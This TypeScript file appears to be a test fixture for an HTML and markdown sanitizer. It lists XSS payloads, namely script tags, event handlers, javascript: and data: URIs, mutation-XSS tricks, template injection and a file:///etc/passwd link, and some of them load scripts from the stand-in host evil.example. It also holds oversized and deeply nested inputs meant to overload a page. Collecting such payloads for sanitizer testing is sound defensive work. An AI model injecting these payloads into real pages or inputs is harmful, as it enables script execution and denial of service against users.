/** What an author of pages for engines might try: every trick calls `hacked` if it is executed as code. */
export const runs = 'window.hacked=1'
export const evil = `<img src=x onerror="${runs}">`
const foreign = 'https://evil.example'

/** Ways to make a browser execute, load or move something, as an answer would contain them. */
export const tricks: readonly string[] = [
  `<script>${runs}</script><script src="${foreign}/a.js"></script>`,
  `${evil} <svg onload="${runs}"><animate onbegin="${runs}" attributeName=x dur=1s></svg>`,
  `<iframe src="${foreign}"></iframe><iframe srcdoc="<script>parent.${runs}</script>"></iframe>`,
  `<object data="${foreign}/x.swf"></object><embed src="${foreign}/x">`,
  `<base href="${foreign}/"><meta http-equiv="refresh" content="0;url=${foreign}">`,
  `<style>*{display:none!important}@import url(${foreign}/a.css);</style><link rel=stylesheet href="${foreign}/b.css">`,
  `<form action="${foreign}"><button formaction="javascript:${runs}">go</button></form>`,
  `<video src="${foreign}/v"></video><audio src=x onerror=${runs}></audio><details open ontoggle=${runs}>d</details>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=${runs}>"></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${runs}>"></noscript><template><img src=x onerror=${runs}></template>`,
  `<a href="javascript:${runs}">a</a> <a href="${foreign}" target=_self onclick="${runs}">b</a>`,
  `[j](javascript:${runs}) [J](JaVaScRiPt:${runs}) [tab](java\tscript:${runs}) [ent](&#106;avascript:${runs})`,
  `[space](<  javascript:${runs}>) [zero](\u0001javascript:${runs}) [vb](vbscript:${runs}) [blob](blob:${foreign}/x)`,
  `[data](data:text/html,<script>${runs}</script>) [file](file:///etc/passwd) [view](view-source:${foreign})`,
  `[x][ref] ![y][ref] ![p](${foreign}/p.png "a\\" onerror=${runs}") ![q](javascript:${runs})\n\n[ref]: javascript:${runs}`,
  `<javascript:${runs}> <data:text/html,x> <${foreign}/?q=%22onmouseover=${runs}>`,
  `[![in](${foreign}/i.png)](${foreign}/out) [](${foreign}/empty) [a [b](javascript:${runs})](${foreign}/nested)`,
  `[^1] x\n\n[^1]: <img src=x onerror=${runs}> [n](javascript:${runs})`,
  `| a | <img src=x onerror=${runs}> |\n|---|---|\n| [t](javascript:${runs}) | \`<svg onload=${runs}>\` |`,
  `\`\`\`html\n<script>${runs}</script>\n\`\`\`\n\n    <img src=x onerror=${runs}>`,
  `{{constructor.constructor('${runs}')()}} \${${runs}} {__html: '${evil}'} <%= ${runs} %>`,
  `\u202Eevil\u202C \u2066mixed \u202E <b>bold\u200B\uFEFF\uFFFD\u{1F468}\u200D end`,
]

/** Answers made to overload a page: far too long, or nested far too deep. */
export const heavy: Readonly<Record<string, string>> = {
  'one word of 200,000 letters': `Torrefa ${'x'.repeat(200_000)}`,
  'quotes in quotes': `${'> '.repeat(3000)}Torrefa`,
  'lists in lists': `${'- '.repeat(2000)}Torrefa`,
  'stars and brackets': `Torrefa ${'*a **b [c]( ![d '.repeat(4000)}`,
  'a thousand indented items': Array.from({ length: 300 }, (_, index) => `${' '.repeat(index * 2)}- Torrefa`).join(
    '\n',
  ),
  'a table of 200 columns': `${'| Torrefa '.repeat(200)}|\n${'|---'.repeat(200)}|\n${`${'| a '.repeat(200)}|\n`.repeat(30)}`,
  'a megabyte of paragraphs': 'Torrefa is **good**, [they say](https://a.example/x).\n\n'.repeat(20_000),
}
